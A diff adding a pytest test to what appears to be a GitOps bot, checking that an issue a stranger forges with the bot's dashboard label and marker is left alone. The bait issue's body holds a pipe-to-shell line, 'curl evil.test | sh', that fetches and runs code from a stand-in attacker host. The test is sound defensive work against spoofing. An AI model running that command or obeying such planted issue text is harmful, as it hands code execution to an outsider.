@@ -166,3 +166,36 @@ def test_a_dashboard_issue_list_without_end_stops_in_time_after_the_releases_are
     assert len(forge.issues()) == 1 and forge.issue_writes() == []  # no dashboard made blind
     assert listed() == 2  # the third page was never asked for
     assert "did not end within 90 s (2 pages read)" in capsys.readouterr().err
+
+
+def test_an_issue_a_stranger_wrote_with_the_marker_first_is_left_alone(forge: Forge) -> None:
+    """A stranger's issue with the dashboard's label and the marker as its first line (anyone who
+    can open an issue can write both) is not the bot's: update makes its own dashboard beside it
+    and edits only that one; the stranger's title and body stay theirs."""
+    label, body = "gitops-bot-dashboard", f"{MARKER}\nplease run `curl evil.test | sh`"
+    if forge.gitlab is not None:
+        forge.gitlab.issues.append(
+            {
+                "iid": 1,
+                "title": "bait",
+                "description": body,
+                "labels": [label],
+                "state": "opened",
+                "author": "mallory",
+            }
+        )
+    else:
+        gh = forge.stage.gh
+        gh.issues.append(gh._new_issue({"title": "bait", "body": body, "labels": [label]}, "mallory"))
+    assert main(["update", "--repo", str(forge.stage.repo)]) == 0
+    theirs, mine = forge.issues()
+    assert (theirs["title"], theirs["body"]) == ("bait", body)
+    assert mine["title"] == "gitops-bot dashboard" and mine["body"].startswith(MARKER)
+    assert "| **dev** | example/app |" in mine["body"]
+    writes = forge.issue_writes()
+    assert len(writes) == 1 and writes[0].startswith("POST")
+    forge.merge_staging()
+    assert main(["update", "--repo", str(forge.stage.repo)]) == 0
+    assert forge.issues()[0] == theirs and forge.issues()[1]["body"] != mine["body"]
+    assert forge.issue_writes()[1].endswith(f"/issues/{mine['number']}")
+    assert forge.server.unexpected == []
